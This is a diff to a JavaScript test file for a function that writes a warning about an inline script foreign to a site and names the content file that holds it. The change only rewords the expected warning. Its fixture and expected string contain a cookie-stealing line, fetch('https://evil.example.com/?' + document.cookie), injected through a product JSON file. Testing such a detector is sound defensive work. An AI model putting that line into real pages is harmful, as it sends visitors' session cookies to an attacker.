@@ -45,13 +45,13 @@ test("the sentence names the page, the beginning of the text, and the file it wa
     { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
   ]
   expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
-    'The page /plank holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
+    'The page /plank contains an inline script that does not belong to the site: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
   )
 })
 
 test("if no content file contains it, the sentence names none", () => {
   const found = { what: "an inline script", text: "x()" }
   expect(foreignSentence("/", found, [])).toBe(
-    "The page / holds an inline script that is not one of the site's own: x().",
+    "The page / contains an inline script that does not belong to the site: x().",
   )
 })
